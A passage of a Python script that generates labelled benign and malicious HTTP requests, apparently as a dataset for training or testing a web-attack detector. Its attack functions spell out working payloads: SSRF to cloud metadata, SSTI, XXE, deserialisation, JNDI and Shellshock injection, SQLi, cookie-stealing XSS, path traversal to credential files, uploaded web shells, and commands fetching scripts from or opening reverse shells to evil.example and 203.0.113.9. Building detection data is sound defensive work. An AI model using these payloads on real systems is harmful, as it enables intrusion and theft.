        lambda: f"/{R.choice(NOUN)}/{'-'.join(words(1) for _ in range(R.randint(2, 7)))}.html", lambda: f"/wp-content/uploads/2026/0{R.randint(1, 9)}/{R.choice(NOUN)}-{R.randint(100, 999)}x{R.randint(100, 999)}.{ext()}", lambda: f"/wp-includes/js/jquery/jquery.min.js", lambda: f"/{R.choice(('en', 'de', 'fr-FR'))}/{R.choice(TLDPATH)}", lambda: f"/wiki/{urllib.parse.quote(R.choice(SEARCHES), safe='')}", lambda: f"/search/{urllib.parse.quote_plus(R.choice(SEARCHES))}",
        lambda: R.choice(["/robots.txt", "/favicon.ico", "/sitemap.xml", "/.well-known/security.txt", "/.well-known/acme-challenge/" + token(43), "/.well-known/openid-configuration", "/login", "/logout", "/admin/", "/admin/login", "/index.php", "/index.html", "/health", "/metrics", "/manifest.json", "/apple-touch-icon.png", "/graphql", "/ws", "/socket.io/", "/sw.js", "/oauth/authorize", "/upload", "/upload.php", "/profile", "/user/settings", "/account/orders", "/cart", "/checkout", "/contact"]),
        lambda: f"/@{R.choice(NOUN)}/{token(6)}", lambda: f"/~{R.choice(NOUN)}/index.html", lambda: f"/_next/static/chunks/pages/{R.choice(['index', '%5Bslug%5D', '_app'])}-{hexa(16)}.js", lambda: f"/_nuxt/{hexa(7)}.js", lambda: f"/npm/@{R.choice(NOUN)}/{R.choice(NOUN)}@{R.randint(1, 9)}.{R.randint(0, 9)}.0/dist/{R.choice(NOUN)}.umd.js", lambda: f"/{R.choice(NOUN)};jsessionid={hexa(32).upper()}", lambda: f"/map/{R.uniform(-90, 90):.4f},{R.uniform(-180, 180):.4f},12z", lambda: f"/images/{urllib.parse.quote(R.choice(SEARCHES), safe='')}.jpg", lambda: f"/{R.choice(NOUN)}/{urllib.parse.quote(name())}", lambda: f"/{R.choice(NOUN)}//{R.choice(NOUN)}/", lambda: f"/i/{R.randint(1, 999)}x{R.randint(1, 999)}/fit/{R.choice(NOUN)}:{R.randint(1, 99)}/{hexa(12)}.{ext()}", lambda: f"/docs/{R.choice(NOUN)}.{ext()}", lambda: f"/{token(8)}/{token(12)}", lambda: f"/repo/{R.choice(NOUN)}.git/info/refs",
    ])()


def raw(method, target, head, kind=None, body=b""):
    if kind:
        head = head + [("Content-Type", kind)]
    if body:
        head = head + [("Content-Length", str(len(body)))]
    lines = [f"{method} {target} HTTP/1.1"] + [f"{key}: {value}" for key, value in head]
    return ("\r\n".join(lines) + "\r\n\r\n").encode() + body


def benign():
    pick, head = R.random(), headers()
    if pick < 0.25:
        return raw("GET", path(), head)
    if pick < 0.5:
        return raw("GET", f"{path()}?{urlencoded(R.randint(1, 6))}", head)
    if pick < 0.65:
        return raw("POST", path(), head, "application/x-www-form-urlencoded", urlencoded(R.randint(1, 8)).encode())
    if pick < 0.8:
        value = R.choice([lambda: {R.choice(KEYS): json_value() for _ in range(R.randint(1, 6))}, lambda: {R.choice(KEYS): json_value() for _ in range(R.randint(1, 6))}, graphql, event])()
        return raw(R.choice(("POST", "PUT", "PATCH")), path(), head, R.choice(("application/json", "application/json; charset=utf-8", "application/vnd.api+json", "text/plain;charset=UTF-8")), json.dumps(value, ensure_ascii=R.random() < 0.5, indent=R.choice((None, None, 2))).encode())
    if pick < 0.93:
        kind, body = multipart()
        return raw("POST", path(), head, kind, body)
    if pick < 0.96:
        return raw("POST", path(), head, "text/xml; charset=utf-8", xml().encode())
    if pick < 0.98:
        return raw("POST", path(), head, "text/plain", " ".join(sentence() for _ in range(4)).encode())
    return raw("PUT", path(), head, R.choice(("application/octet-stream", "image/png")), R.choice((png, jpeg))())


HOSTS = ["169.254.169.254", "127.0.0.1", "localhost", "[::1]", "0x7f000001", "2130706433", "10.0.0.1", "192.168.1.1", "metadata.google.internal", "127.1", "0.0.0.0"]


PHP_CLASSES = ["PDO", "SplFileObject", "Monolog\\Handler\\SyslogUdpHandler", "GuzzleHttp\\Cookie\\FileCookieJar", "Example"]


def attacks():
    """(class, value) pairs; each is written from the public description of the technique, none is copied."""
    n, m = R.randint(2, 99), R.randint(2, 99)
    host = R.choice(HOSTS)

    cmd = R.choice(("id", "whoami", "cat /etc/passwd", "uname -a", "ls -la /", "ping -c 3 127.0.0.1", "curl http://evil.example/x.sh|sh", "nc -e /bin/sh 203.0.113.9 4444", "sleep 5", "type c:\\windows\\win.ini", "wget http://evil.example/a -O /tmp/a", "bash -i >& /dev/tcp/203.0.113.9/443 0>&1"))  # tidy: not of a machine
    return R.choice([
        ("ssrf", f"http://{host}{R.choice(['', ':8080', ':22', ':6379'])}/{R.choice(['', 'latest/meta-data/', 'latest/meta-data/iam/security-credentials/', 'admin', 'server-status', 'computeMetadata/v1/'])}"),
        ("ssrf", f"{R.choice(('gopher', 'dict', 'ldap', 'tftp', 'jar:http', 'netdoc'))}://{host}:{R.choice((6379, 11211, 25, 3306))}/_{R.choice(('INFO', '*1%0d%0a$8%0d%0aflushall', 'stats', 'HELO'))}"),
        ("ssti", R.choice((f"{{{{{n}*{m}}}}}", f"${{{n}*{m}}}", f"<%= {n}*{m} %>", f"#{{{n}*{m}}}", f"{{{{config.items()}}}}", "{{''.__class__.__mro__[1].__subclasses__()}}", f"{{{{request.application.__globals__.__builtins__.__import__('os').popen('{cmd}').read()}}}}", f"${{T(java.lang.Runtime).getRuntime().exec('{cmd}')}}", f"{{php}}system('{cmd}');{{/php}}", f"{{{{['{cmd}']|filter('system')}}}}", "{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}", f"*{{{n}*{m}}}", f"@({n}*{m})", f"<#assign ex=\"freemarker.template.utility.Execute\"?new()>${{ex(\"{cmd}\")}}", "{{constructor.constructor('alert(1)')()}}"))),
        ("xxe", f'<?xml version="1.0"?><!DOCTYPE {R.choice(("foo", "r", "data"))} [<!ENTITY {R.choice(("xxe", "x", "file"))} SYSTEM "{R.choice(("file:///etc/passwd", "file:///c:/windows/win.ini", "http://evil.example/x.dtd", "php://filter/convert.base64-encode/resource=index.php", "expect://id"))}">]><{R.choice(NOUN)}>&{R.choice(("xxe", "x", "file"))};</{R.choice(NOUN)}>'),
        ("xxe", f'<!DOCTYPE r [<!ENTITY % {R.choice(("p", "remote", "dtd"))} SYSTEM "http://{R.choice(("evil.example", host))}/{token(4)}.dtd"> %{R.choice(("p", "remote", "dtd"))};]>'),
        ("xxe", f'<foo xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/{R.choice(("passwd", "hosts", "shadow"))}"/></foo>'),
        ("deserialisation", R.choice((f'O:{R.randint(4, 20)}:"{R.choice(PHP_CLASSES)}":{R.randint(1, 4)}:{{s:{R.randint(2, 9)}:"{R.choice(NOUN)}";s:{len(cmd)}:"{cmd}";}}', f'a:1:{{i:0;O:{R.randint(4, 20)}:"{token(8)}":1:{{s:4:"data";s:{len(cmd)}:"{cmd}";}}}}', f'{{"rce":"_$$ND_FUNC$$_function(){{require(\'child_process\').exec(\'{cmd}\')}}()"}}', f'{{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://evil.example/{token(4)}","autoCommit":true}}', f"cos\nsystem\n(S'{cmd}'\ntR.", f"!!python/object/apply:os.system ['{cmd}']", f"!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://evil.example/\"]]]]", "rO0ABXNyABFqYXZhLnV0aWwuSGFzaFNldLpEhZWWuLc0AwAAeHB3" + b64(R.randint(20, 80)), "rO0ABXNyADJzdW4ucmVmbGVjdC5hbm5vdGF0aW9uLkFubm90YXRpb25JbnZvY2F0aW9uSGFuZGxlc" + b64(60), "AAEAAAD/////AQAAAAAAAAAMAgAAAElTeXN0ZW0s" + b64(60), f'<java.util.PriorityQueue serialization="custom"><unserializable-parents/><{R.choice(NOUN)}/></java.util.PriorityQueue>', f'{{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework","MethodName":"Start","MethodParameters":{{"$values":["cmd","/c {cmd}"]}}}}'))),
        ("rce", R.choice((f"%{{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#cmd='{cmd}').(#p=new java.lang.ProcessBuilder(#cmd)).(#process=#p.start())}}", f"${{jndi:{R.choice(('ldap', 'rmi', 'dns', 'ldaps'))}://evil.example/{token(5)}}}", f"${{${{lower:j}}ndi:${{lower:l}}dap://{token(6)}.evil.example/a}}", f"${{${{::-j}}${{::-n}}${{::-d}}${{::-i}}:rmi://evil.example/{token(4)}}}", f"() {{ :; }}; {cmd}", f"() {{ :;}}; /bin/bash -c '{cmd}'", f";{cmd}", f"| {cmd}", f"`{cmd}`", f"$({cmd})", f"&& {cmd}", f"127.0.0.1; {cmd}", f"127.0.0.1|{cmd}", f"x\n{cmd}", f"class.module.classLoader.resources.context.parent.pipeline.first.pattern=%{{c2}}i", f"T(java.lang.Runtime).getRuntime().exec(\"{cmd}\")", f"require('child_process').execSync('{cmd}')", f"__import__('os').system('{cmd}')", f"eval(compile('import os;os.system(\"{cmd}\")','x','exec'))", f"system('{cmd}');", f"phpinfo();", f"${{@print(md5({n}))}}", f"<?php system($_GET['{R.choice(NOUN)}']); ?>", f"powershell -enc {b64(30)}", f"cmd.exe /c {cmd}"))),
        ("rfi", R.choice((f"http://evil.example/{token(5)}.txt?", f"https://evil.example/shell.php%00", f"ftp://evil.example/c99.txt", f"php://input", f"php://filter/convert.base64-encode/resource={R.choice(('index', 'config', '../wp-config'))}.php", f"data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOz8+", f"data:text/plain,<?php phpinfo();?>", f"expect://{cmd}", f"zip://shell.jpg%23payload.php", f"phar://uploads/{token(5)}.jpg/a.php"))),
        ("redirect", R.choice((f"//evil.example/{token(4)}", f"https:evil.example", f"/\\evil.example", f"//evil.example/%2f..", f"https://site.example@evil.example/", f"///evil.example", f"javascript:alert(document.domain)"))),
        ("sqli", R.choice((f"{n}' AND {n}={n} AND '{token(4)}'='{token(4)}", f"{n}) AND {n}={m} AND ({n}={n}", f"{n} AND {n}=CAST((CHR(113)||CHR(120))||(SELECT (CASE WHEN ({n}={n}) THEN 1 ELSE 0 END))::text AS NUMERIC)", f"{n}' UNION ALL SELECT NULL,NULL,CONCAT(0x71,0x{hexa(20)})-- {token(4)}", f"{n} ORDER BY {m}-- -", f"{n};SELECT PG_SLEEP(5)--", f"{n}' AND SLEEP(5) AND '{token(4)}'='{token(4)}", f"{n}' WAITFOR DELAY '0:0:5'--", f"(SELECT CONCAT(0x7176,(SELECT (ELT({n}={n},1))),0x71))", f"{n} AND EXTRACTVALUE({n},CONCAT(0x5c,0x71,(SELECT (ELT({n}={n},1)))))", f"{token(4)}.(\"',,).", f"{n}'\"({token(3)}.,)(", f"{n}' RLIKE (SELECT (CASE WHEN ({n}={m}) THEN 1 ELSE 0x28 END))-- {token(4)}", f"-{n} OR {n}={n}#", f"{n} UNION SELECT username, password FROM users--", f"admin'-- -", f"admin' or '1'='1'#", f"' or sleep(5)#", f"{n}'/**/UnIoN/**/SeLeCt/**/1,2,3--+", f"{n}%' AND {n}=DBMS_PIPE.RECEIVE_MESSAGE(CHR(65),5) AND '%'='"))),
        ("xss", R.choice((f"<script>alert({n})</script>", f"\"><svg/onload=alert({n})>", f"'\"><img src=x onerror=alert({n})>", f"javascript:alert({n})", f"</title><script src=//evil.example/x.js></script>", f"<iframe srcdoc=\"<script>alert({n})</script>\">", f"<a href=\"jav&#x09;ascript:alert({n})\">x</a>", f"';alert({n});//", f"<details open ontoggle=confirm({n})>", f"<body onpageshow=alert`{n}`>", f"<math><mi xlink:href=\"data:x,<script>alert({n})</script>\">", f"\" autofocus onfocus=alert({n}) x=\"", f"<input onfocus=eval(atob('YWxlcnQoMSk=')) autofocus>", f"<video><source onerror=\"fetch('//evil.example/?c='+document.cookie)\">"))),
        ("traversal", R.choice((f"{'../' * R.randint(2, 9)}etc/{R.choice(('passwd', 'shadow', 'hosts'))}", f"{'..%5c' * R.randint(2, 6)}windows%5cwin.ini", f"{'....//' * R.randint(2, 6)}etc/passwd", f"/etc/passwd{R.choice(('', '%00', '%00.png'))}", f"file:///etc/passwd", f"..\\..\\..\\boot.ini", f"/proc/self/environ", f"/var/log/apache2/access.log", f"C:\\Windows\\System32\\drivers\\etc\\hosts", f"{'..;/' * R.randint(1, 3)}manager/html", f"/WEB-INF/web.xml", f"~/.ssh/id_rsa"))),
    ])


SHELLS = ["<?php @eval($_POST['{k}']); ?>", "<?php system($_GET['{k}']); ?>", "<?=`$_GET[{k}]`?>", "<%@ page import=\"java.io.*\" %><% Runtime.getRuntime().exec(request.getParameter(\"{k}\")); %>", "<%eval request(\"{k}\")%>", "GIF89a<?php passthru($_REQUEST['{k}']); ?>", "<?php echo shell_exec($_GET['{k}'].' 2>&1'); ?>", "<script runat=\"server\">Response.Write(new ActiveXObject(\"WScript.Shell\").exec(Request(\"{k}\")).StdOut.ReadAll());</script>", "<?php $f=base64_decode($_POST['{k}']);file_put_contents('x.php',$f);eval('?>'.$f); ?>", "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(document.domain)\"/>", "#!/usr/bin/perl\nuse CGI;print `$ENV{{QUERY_STRING}}`;"]


def web_shell():
    code = R.choice(SHELLS).format(k=R.choice(("cmd", "c", "x", "pass", token(3)))).encode()
    cover = R.choice([b"", b"", png(), jpeg(), b"GIF89a;\n"])
    filename = R.choice(["shell.php", "a.php.jpg", "x.phtml", "cmd.jsp", "..%2f..%2fshell.php", "../../var/www/html/s.php", "img.php%00.png", "x.php5", "web.config", ".htaccess", "c99.php", "shell.aspx", "avatar.png"])
    boundary = f"----WebKitFormBoundary{token(16)}"
    body = f'--{boundary}\r\nContent-Disposition: form-data; name="{R.choice(("file", "image", "upload"))}"; filename="{filename}"\r\nContent-Type: image/png\r\n\r\n'.encode() + cover + code + f"\r\n--{boundary}--\r\n".encode()
    return f"multipart/form-data; boundary={boundary}", body


def malicious():
    head = headers()
    if R.random() < 0.06:
        kind, body = web_shell()
        return "upload", raw("POST", "/upload", head, kind, body)
    if R.random() < 0.03:
        tool = R.choice(["sqlmap/1.7.2#stable (https://sqlmap.org)", "Nikto/2.5.0", "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)", "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)", "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)", "WPScan v3.8.22 (https://wpscan.com/wordpress-security-scanner)", "masscan/1.3 (https://github.com/robertdavidgraham/masscan)", "Fuzz Faster U Fool v2.1.0-dev", "gobuster/3.6", "DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)", "Wfuzz/3.1.0", "Mozilla/5.0 (Hydra)", "Acunetix-Product", "Arachni/v1.5", "zgrab/0.x", "feroxbuster/2.10.0", "w3af.org", "commix/v3.9", "Jorgee", "Havij", "Netsparker"])
        head = [(key, tool if key == "User-Agent" else value) for key, value in head]
        return "scanner", raw("GET", path(), head)
    kind, value = attacks()
    quoted = urllib.parse.quote(value, safe="")
    place = R.random()
    key = R.choice(KEYS)
    if kind == "xxe" and place < 0.7:
        return kind, raw("POST", path(), head, "application/xml", value.encode())
    if place < 0.4:
        return kind, raw("GET", f"{path()}?{urlencoded(R.randint(0, 2))}&{key}={quoted}", head)
    if place < 0.6:
        return kind, raw("POST", path(), head, "application/x-www-form-urlencoded", f"{urlencoded(R.randint(0, 3))}&{key}={quoted}".encode())
    if place < 0.8:
        return kind, raw("POST", path(), head, "application/json", json.dumps({key: value, R.choice(KEYS): text()}).encode())
    if place < 0.88 and "\n" not in value:
        header = R.choice(("User-Agent", "Referer", "X-Forwarded-For", "X-Api-Version", "Cookie"))
        shown = f"id={quoted}" if header == "Cookie" else value
        return kind, raw("GET", path(), [pair for pair in head if pair[0] != header] + [(header, shown)])
    if place < 0.94 and kind in ("traversal", "xss", "rce", "ssti"):
        return kind, raw("GET", f"/{R.choice(NOUN)}/{urllib.parse.quote(value, safe='/.')}", head)
    return kind, raw("GET", f"{path()}?{key}={quoted}", head)


def main():
    benign_count, malicious_count = int(sys.argv[1]), int(sys.argv[2])
    for number in range(benign_count):
        row = {"id": f"benign-{number}", "label": "benign", "class": None, "source": "recipes", "license": "Apache-2.0 OR MIT", "kind": "request", "raw": base64.b64encode(benign()).decode()}
        print(json.dumps(row))
    for number in range(malicious_count):
        kind, data = malicious()
        row = {"id": f"malicious-{number}", "label": "malicious", "class": kind, "source": "recipes", "license": "Apache-2.0 OR MIT", "kind": "request", "raw": base64.b64encode(data).decode()}
        print(json.dumps(row))


if __name__ == "__main__":
    main()
